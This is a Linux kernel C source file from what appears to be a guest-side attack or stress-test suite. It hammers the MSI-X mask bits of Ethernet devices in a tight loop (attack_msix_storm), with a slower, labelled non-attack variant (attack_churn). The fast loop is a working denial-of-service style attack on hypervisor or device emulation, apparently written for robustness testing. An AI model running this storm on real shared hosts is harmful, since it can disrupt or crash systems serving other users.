// SPDX-License-Identifier: GPL-2.0
/* MSI-X entries masked and unmasked: as fast as can be, or as often as a guest may. */
#include <linux/delay.h>
#include <linux/io.h>
#include <linux/pci.h>
#include <linux/smp.h>
#include "attack.h"

static void reload_here(void *unused)
{
	struct desc_ptr own = get_idt();

	set_idt(own.address, own.size);
}

/*
 * Masks and unmasks every entry of each network function's MSI-X table (PCI Local Bus Specification 3.0, 6.8.2.9). Slowly, it is no attack:
 * every CPU loads the IDT that it has in between.
 */
static int msix(bool slowly)
{
	struct pci_dev *device = NULL;
	void __iomem *table[4];
	int entries[4], tables = 0, i, entry;

	while (tables < 4 && (device = pci_get_class(PCI_CLASS_NETWORK_ETHERNET << 8, device))) {
		u16 control;
		u32 where;

		if (!device->msix_cap)
			continue;
		pci_read_config_word(device, device->msix_cap + PCI_MSIX_FLAGS, &control);
		pci_read_config_dword(device, device->msix_cap + PCI_MSIX_TABLE, &where);
		entries[tables] = (control & PCI_MSIX_FLAGS_QSIZE) + 1;
		table[tables] = ioremap(pci_resource_start(device, where & PCI_MSIX_TABLE_BIR) + (where & PCI_MSIX_TABLE_OFFSET),
					entries[tables] * PCI_MSIX_ENTRY_SIZE);
		if (table[tables])
			tables++;
	}
	if (!tables)
		return -ENODEV;
	for (; on(); attack_rounds++) {
		for (i = 0; i < tables; i++) {
			for (entry = 0; entry < entries[i]; entry++) {
				void __iomem *control = table[i] + entry * PCI_MSIX_ENTRY_SIZE + PCI_MSIX_ENTRY_VECTOR_CTRL;

				writel(PCI_MSIX_ENTRY_CTRL_MASKBIT, control);
				writel(0, control);
			}
		}
		if (slowly) {
			on_each_cpu(reload_here, NULL, 1);
			msleep(20);
		} else {
			cond_resched();
		}
	}
	for (i = 0; i < tables; i++)
		iounmap(table[i]);
	return 0;
}

int attack_msix_storm(void)
{
	return msix(false);
}

int attack_churn(void)
{
	return msix(true);
}
